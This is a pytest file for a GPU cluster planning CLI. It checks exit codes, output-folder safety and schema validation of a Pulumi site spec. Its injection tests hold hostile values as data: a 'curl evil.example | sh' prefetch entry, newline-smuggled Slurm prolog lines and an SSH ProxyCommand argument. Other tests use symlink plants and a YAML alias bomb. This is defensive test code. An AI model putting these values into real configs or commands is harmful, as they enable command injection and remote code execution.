"""`gpuctl plan` end to end: the installed console script, its exit codes, and the files it writes."""

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from runbooks.cli import app
from runbooks.console import out
from runbooks.offline.engine import run_program
from runbooks.plan.cli import ChartsOutcome, _charts_valid
from runbooks.plan.files import artifacts
from runbooks.plan.helm import Invalid, RenderedRelease
from runbooks.plan.out_dir import OUT_MANIFEST
from tests.builders import REPO, copy_project, parse, prod_values
from tests.components.site.test_sections import FIVE_REPORTED

GPUCTL = REPO / ".venv" / "bin" / "gpuctl"


@pytest.mark.skipif(not GPUCTL.exists(), reason="needs the project's .venv (make test creates it)")
def test_should_plan_the_prod_site_with_the_installed_console_script(tmp_path: Path) -> None:
    out = tmp_path / "plan"
    result = subprocess.run([GPUCTL, "plan", "--stack", "prod", "--out", out], cwd=REPO,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "stack prod: 128 GPUs on 16 nodes in 4 racks; stage platform onboards 0 of 12 teams: the platform alone" \
        in result.stdout
    graph = run_program(REPO, "prod")
    expected = len(graph.resources) - 1 + len(artifacts(parse(prod_values())))  # all but the Stack, and configs
    assert f"wrote {expected} files" in result.stdout
    files = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file() and p.name != OUT_MANIFEST)
    assert len(files) == expected
    assert sorted((out / OUT_MANIFEST).read_text().split()) == files
    patch = yaml.safe_load((out / "kubernetes" / "NodePatch--gpu-a800-01-admission.yaml").read_text())
    assert (patch["apiVersion"], patch["kind"], patch["metadata"]["name"]) == ("v1", "Node", "gpu-a800-01")
    rack = json.loads((out / "resources" / "gpucluster-facility-Rack--a01.json").read_text())
    assert rack["urn"] == ("urn:pulumi:prod::gpu-cluster::gpucluster:cluster:GpuCluster"
                           "$gpucluster:facility:Facility$gpucluster:facility:Rack::a01")
    assert rack["outputs"]["heat_load_kw"] == pytest.approx(25.957)


def test_should_replace_stale_files_on_a_second_plan(tmp_path: Path) -> None:
    out = tmp_path / "plan"
    assert CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--out", str(out)]).exit_code == 0
    # A file the earlier plan wrote (its manifest says so) that this one no longer writes.
    stale = out / "resources" / "gone.json"
    stale.write_text("{}")
    with (out / OUT_MANIFEST).open("a") as manifest:
        manifest.write("resources/gone.json\n")
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert not stale.exists()
    assert "resources/gone.json" not in (out / OUT_MANIFEST).read_text()


@pytest.mark.parametrize("foreign", ["slurm/slurm.conf", "kubernetes/keep.yaml", "notes.txt"])
def test_should_refuse_a_folder_holding_files_no_plan_wrote_and_touch_nothing(tmp_path: Path, foreign: str) -> None:
    # As root, `--out /etc` would otherwise have removed /etc/slurm.
    out = tmp_path / "etc"
    (out / foreign).parent.mkdir(parents=True, exist_ok=True)
    (out / foreign).write_text("mine")
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert "holds files no plan wrote" in result.output
    assert (out / foreign).read_text() == "mine" and sorted(p.name for p in out.rglob("*") if p.is_file()) == [
        Path(foreign).name]


@pytest.fixture(scope="module")
def earlier_plan(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder a plan of the prod stack wrote, as the next plan finds it (each test takes a copy)."""
    out = tmp_path_factory.mktemp("earlier") / "plan"
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _folder_to_outside(out: Path, outside: Path) -> Path:
    (outside / "slurm.conf").write_text("root's own")
    shutil.rmtree(out / "slurm")
    (out / "slurm").symlink_to(outside)
    return out / "slurm"


def _file_parent_to_outside(out: Path, outside: Path) -> Path:
    # Deeper: the folder holding kubernetes/<object>.yaml files becomes a link to one holding a file of that name.
    victim = next((out / "kubernetes").iterdir()).name
    (outside / victim).write_text("root's own")
    shutil.rmtree(out / "kubernetes")
    (out / "kubernetes").symlink_to(outside)
    return out / "kubernetes"


@pytest.mark.parametrize("plant", [
    pytest.param(_folder_to_outside, id="slurm/ a link to a folder outside holding slurm.conf"),
    pytest.param(_file_parent_to_outside, id="kubernetes/ a link to a folder outside holding an object's file name"),
])
def test_should_refuse_a_symlink_planted_in_an_earlier_plan_and_touch_nothing_outside(
        earlier_plan: Path, tmp_path: Path, plant: Any) -> None:
    # Issue 41: the next plan, run as root, deleted outside/slurm.conf and wrote its files into outside/.
    out, outside = tmp_path / "plan", tmp_path / "outside"
    shutil.copytree(earlier_plan, out, symlinks=True)
    outside.mkdir()
    link = plant(out, outside)
    before = {p.name: p.read_bytes() for p in outside.iterdir()}
    kept = sorted(p.relative_to(out).as_posix() for p in out.rglob("*"))

    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--out", str(out)])

    assert result.exit_code == 2, result.output
    assert str(link.relative_to(out)) in result.output and "symlink" in result.output
    assert {p.name: p.read_bytes() for p in outside.iterdir()} == before
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == kept  # the earlier plan left whole


def _over_budget(config: dict[str, Any]) -> None:
    config["gpu-cluster:racks"][0]["power_budget_kw"] = 20


def _unknown_key(config: dict[str, Any]) -> None:
    config["gpu-cluster:racks"][0]["colour"] = "red"


def _no_stack_file(config: dict[str, Any]) -> None:
    config.clear()


def _set(path: str, value: Any) -> Any:
    """A change that sets one value of the stack file (keys and list indexes, dotted)."""
    def change(config: dict[str, Any]) -> None:
        key, *rest = path.split(".")
        if not rest:
            config[f"gpu-cluster:{key}"] = value
            return
        target = config.setdefault(f"gpu-cluster:{key}", {})
        for part in rest[:-1]:
            target = target[int(part)] if isinstance(target, list) else target.setdefault(part, {})
        last = rest[-1]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value
    return change


def _team_named(name: str) -> Any:
    def change(config: dict[str, Any]) -> None:
        config["gpu-cluster:teams"][0]["name"] = name
    return change


def _rack(field: str, value: Any) -> Any:
    def change(config: dict[str, Any]) -> None:
        config["gpu-cluster:racks"][0][field] = value
    return change


# Numbers that pass every bound but break what reads them (issue 21, case 13).
NON_FINITE = [
    pytest.param(_rack("power_budget_kw", float("inf")), "racks[0].power_budget_kw: Input should be a finite number",
                 id="an infinite power budget"),
    pytest.param(_set("alerting.hbm_temp_incident_c", float("inf")),
                 "alerting.hbm_temp_incident_c: Input should be a finite number",
                 id="an infinite HBM temperature, which would silence its alert"),
    pytest.param(_set("alerting.xid_hardware", []), "alerting.xid_hardware: Tuple should have at least 1 item",
                 id="no hardware XIDs, which would silence their alert"),
    pytest.param(_set("monitoring.hot_retention_days", 106752),
                 "monitoring.hot_retention_days: Input should be less than or equal to 3650",
                 id="a retention Prometheus cannot hold"),
    pytest.param(_set("slack.approval_ttl_hours", 10**12),
                 "slack.approval_ttl_hours: Input should be less than or equal to 720",
                 id="an approval TTL past what a timedelta holds, which crashed the rollout"),
    pytest.param(_set("stages", [{"name": "canary", "min_soak_days": 10**7}, {"name": "full", "min_soak_days": 0}]),
                 "stages[0].min_soak_days: Input should be less than or equal to 365",
                 id="a soak past year 9999, which crashed the rollout"),
    pytest.param(_set("slack.approvals_required", True),
                 "slack.approvals_required: Value error, a boolean is not a number (got true)",
                 id="a boolean as a number, which read as 1"),
]

# What a spec value could smuggle into a file, a command or a name (issue 21, cases 8-10): refused at the schema.
INJECTIONS = [
    pytest.param(_set("slurm.controller_host", "ctl\nPrologSlurmctld=/srv/evil.sh"),
                 "slurm.controller_host: String should match pattern", id="a newline in the controller's host name"),
    pytest.param(_set("slurm.state_save_dir", "/var/spool/slurmctld\nPrologSlurmctld=/srv/evil.sh"),
                 "slurm.state_save_dir: String should match pattern", id="a newline in a Slurm directory"),
    pytest.param(_set("slurm.log_dir", "/var/log/../../etc"), "slurm.log_dir: Value error, must not have . or .. "
                 "parts", id="a Slurm directory that climbs"),
    pytest.param(_set("node_groups.0.nodes.0.ssh_host", "10.20.1.11 -oProxyCommand=sh"),
                 "node_groups[0].nodes[0].ssh_host: String should match pattern", id="a space in an SSH host"),
    pytest.param(_set("storage.nvme.prefetch", ["llama; curl evil.example | sh"]),
                 "storage.nvme.prefetch[0]: String should match pattern", id="a shell command in a prefetch entry"),
    pytest.param(_set("storage.nfs_hot.servers", ["nfs-hot-01\n[Mount]"]),
                 "storage.nfs_hot.servers[0]: String should match pattern", id="a newline in an NFS server"),
    pytest.param(_set("storage.nfs_hot.servers", [""]), "storage.nfs_hot.servers[0]: String should match pattern",
                 id="an empty NFS server"),
    pytest.param(_set("gpu_catalog", {"A800 SXM": {"tdp_w": 400, "memory_gb": 80, "gpu_class": "dense",
                                                   "source": "x", "smi_name": "x"}}),
                 "gpu_catalog.A800 SXM.[key]: String should match pattern", id="a space in a GPU model name"),
    *(pytest.param(_team_named(name), f"teams[0].name: {name!r} is reserved", id=f"a team named {name}")
      for name in ("monitoring", "storage", "kube-system", "root", "gpu-operator")),
]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        pytest.param(_over_budget, "racks[0].power_budget_kw: planned draw 26.0 kW", id="rack over its power budget"),
        pytest.param(_unknown_key, "racks[0].colour: unknown key", id="unknown key"),
        pytest.param(_no_stack_file, "required key is missing", id="empty stack file"),
        *INJECTIONS,
        *NON_FINITE,
    ],
)
def test_should_exit_2_naming_the_field(tmp_path: Path, change: Any, message: str) -> None:
    project = copy_project(tmp_path, change)
    out = tmp_path / "plan"
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(project), "--out", str(out)])
    assert result.exit_code == 2
    assert message in result.output
    assert not out.exists()


def test_should_report_every_problem_of_a_file_in_one_run(tmp_path: Path) -> None:
    # Two type errors and three broken cross-field rules: the type errors used to hide the other three.
    changes = [_set("racks.0.power_budget_kw", "lots"), _set("slack.approvals_required", "two"),
               _set("teams.6.stage", "beta"), _set("monitoring", {"hot_retention_days": 30, "cold_retention_days": 10}),
               _set("gpu_operator", {"driver_version": "470.1"})]
    project = copy_project(tmp_path, lambda config: [change(config) for change in changes])
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(project)])
    assert result.exit_code == 2, result.output
    assert "invalid site spec in Pulumi.prod.yaml (5 problems):" in result.output
    assert [line.removeprefix("  - ") for line in result.output.splitlines()[1:]] == FIVE_REPORTED


@pytest.mark.parametrize(("text", "message"), [
    pytest.param("config:\n  gpu-cluster:stage: canary\n  gpu-cluster:stage: full\n",
                 "duplicate key 'gpu-cluster:stage'", id="a duplicate key, which would silently onboard every team"),
    pytest.param("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                 "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nconfig: {}\n", "aliases are not allowed in a stack file",
                 id="an alias bomb"),
    pytest.param("config: [a, b]\n", "`config` must be a mapping of keys to values", id="a config that is a list"),
    pytest.param(f"config:\n  gpu-cluster:stage: {'9' * 5000}\n", "Exceeds the limit (4300 digits) for integer string "
                 "conversion", id="a number of more digits than Python converts"),
])
def test_should_exit_2_on_a_stack_file_no_site_should_have(tmp_path: Path, text: str, message: str) -> None:
    project = copy_project(tmp_path)
    (project / "Pulumi.prod.yaml").write_text(text)
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(project), "--out", str(tmp_path / "plan")])
    assert result.exit_code == 2, result.output
    assert message in result.output


def test_should_read_yaml_1_1_booleans_as_the_pulumi_cli_does_not_as_numbers(tmp_path: Path) -> None:
    # YAML 1.1 reads `yes` as true, and int(True) is 1: one approval instead of the two the site asked for.
    project = copy_project(tmp_path)
    stack = project / "Pulumi.prod.yaml"
    assert stack.read_text().count("approvals_required: 2") == 1
    stack.write_text(stack.read_text().replace("approvals_required: 2", "approvals_required: yes"))
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(project), "--out", str(tmp_path / "plan")])
    assert result.exit_code == 2, result.output
    assert ('slack.approvals_required: Input should be a valid integer, unable to parse string as an integer '
            '(got "yes")') in result.output


def test_should_exit_2_on_a_missing_stack(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(copy_project(tmp_path)), "--stack", "staging"])
    assert result.exit_code == 2
    assert "no stack file Pulumi.staging.yaml" in result.output


@pytest.mark.parametrize("option", [["--chart-mirror", "charts"], ["--plain-http"]])
def test_should_exit_2_on_a_chart_option_without_out_and_run_nothing(option: list[str]) -> None:
    # The charts are rendered into --out's helm/: without --out the option would silently do nothing.
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), *option])
    assert result.exit_code == 2, result.output
    assert "needs --out DIR" in " ".join(result.output.split())
    assert "policy pack" not in result.output


def test_should_exit_1_when_the_program_itself_fails(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    (project / "__main__.py").write_text("raise RuntimeError('boom')\n")
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(project)])
    assert result.exit_code == 1
    assert "the program failed: boom" in result.output


@pytest.mark.parametrize(
    ("tool", "args", "artifact"),
    [
        pytest.param("promtool", ["check", "rules"], "prometheus/rules.yaml", id="promtool accepts the rules"),
        pytest.param("amtool", ["check-config"], "alertmanager/alertmanager.yml", id="amtool accepts the routing"),
    ],
)
def test_should_write_configs_their_consumers_accept(tmp_path: Path, tool: str, args: list[str], artifact: str) -> None:
    if shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed (make test installs it)")
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    checked = subprocess.run([tool, *args, str(tmp_path / artifact)], capture_output=True, text=True, timeout=60)
    assert checked.returncode == 0, checked.stdout + checked.stderr


@pytest.mark.parametrize(
    ("config", "exit_code", "message"),
    [
        pytest.param({"metrics-hot-retention": {"min_days": 45}}, 3,
                     "metrics-hot-retention (mandatory)", id="exits 3 when a tightened mandatory policy fails"),
        pytest.param({"metrics-hot-retention": {"enforcementLevel": "advisory", "min_days": 45}}, 0,
                     "metrics-hot-retention (advisory)", id="only reports an advisory violation"),
        pytest.param([1, 2], 2, "policy config must be a JSON object of policy names, got list",
                     id="exits 2 on a config that is no JSON object"),
    ],
)
def test_should_judge_the_plan_with_the_stacks_policy_config(tmp_path: Path, config: Any, exit_code: int,
                                                             message: str) -> None:
    config_file = tmp_path / "policy-config.json"
    config_file.write_text(json.dumps(config))
    result = CliRunner().invoke(app, ["plan", "--project-dir", str(REPO), "--policy-pack-config", str(config_file)])
    assert result.exit_code == exit_code, result.output
    assert message in result.output


@pytest.mark.parametrize(
    ("stage", "teams"),
    [
        pytest.param("canary", ["nlp-foundation", "speech"], id="canary lists its 2 teams and their quotas"),
        pytest.param("half", ["nlp-foundation", "speech", "vision", "multimodal", "rl", "code-llm"],
                     id="half lists its 6 teams and their quotas"),
        pytest.param("full", ["nlp-foundation", "speech", "vision", "multimodal", "rl", "code-llm", "safety", "recsys",
                              "bio-ai", "robotics", "agents", "eval"], id="full lists all 12 teams and their quotas"),
    ],
)
def test_should_list_the_onboarded_teams_and_quotas_per_stage(tmp_path: Path, stage: str, teams: list[str]) -> None:
    def at_stage(config: dict[str, Any]) -> None:
        config["gpu-cluster:stage"] = stage
        config["gpu-cluster:teams"][1]["gpu_quota"] = {"rtx4090-kubernetes": 8}
        config["gpu-cluster:teams"][1]["gpu_guaranteed"] = {"rtx4090-kubernetes": 4}

    result = CliRunner().invoke(app, ["plan", "--project-dir", str(copy_project(tmp_path, at_stage))])
    assert result.exit_code == 0, result.output
    assert f"Teams onboarded at stage {stage}: GPU quota per Kueue flavor, and in total" in result.output
    rows = [line.split("│")[1:-1] for line in result.output.splitlines() if line.startswith("│ ")]
    listed = {cells[0].strip(): [c.strip() for c in cells[1:]] for cells in rows if cells[0].strip() in teams}
    assert list(listed) == teams
    # stage, a800-kubernetes, rtx4090-kubernetes, total
    assert listed["speech"][:4] == ["canary", "8", "8 (4 guaranteed)", "16"]
    assert listed["nlp-foundation"][:4] == ["canary", "8", "8", "16"]
    # The kubernetes pool lends what the model servers may not hold (prod's A800 servers may hold all 16, its RTX
    # 4090 servers 24 of 32) and the onboarded teams are not guaranteed; flex lends nothing until lent.
    assert "GPUs the pools lend to team queues now: a800-kubernetes 0, rtx4090-kubernetes 4, a800-flex 0" in (
        result.output)
    assert listed[teams[-1]][0] == stage


def test_should_list_the_helm_releases_by_name_whatever_order_they_registered_in() -> None:
    def release(name: str) -> RenderedRelease:
        return RenderedRelease(name, f"{name}-chart-1.0.0", "1.0.0", "monitoring", [{"kind": "ConfigMap"}])

    invalid = [Invalid("kueue", "Deployment", "manager", "bad"), Invalid("dcgm-exporter", "DaemonSet", "ds", "bad")]
    printed = []
    for order in (["kueue", "dcgm-exporter", "zz-last", "alloy"], ["alloy", "zz-last", "kueue", "dcgm-exporter"]):
        charts = ChartsOutcome([release(name) for name in order], invalid=invalid if order[0] == "kueue" else
                               invalid[::-1])
        with out.capture() as captured:
            assert _charts_valid(charts) is False
        printed.append(captured.get())
    rows = [line.split("│")[1].strip() for line in printed[0].splitlines() if line.count("│") > 3]
    assert rows == ["alloy", "dcgm-exporter", "kueue", "zz-last"]
    assert [line.split(":")[0].strip() for line in printed[0].splitlines() if line.endswith(": bad")] == [
        "dcgm-exporter", "kueue"]
    assert printed[0] == printed[1]
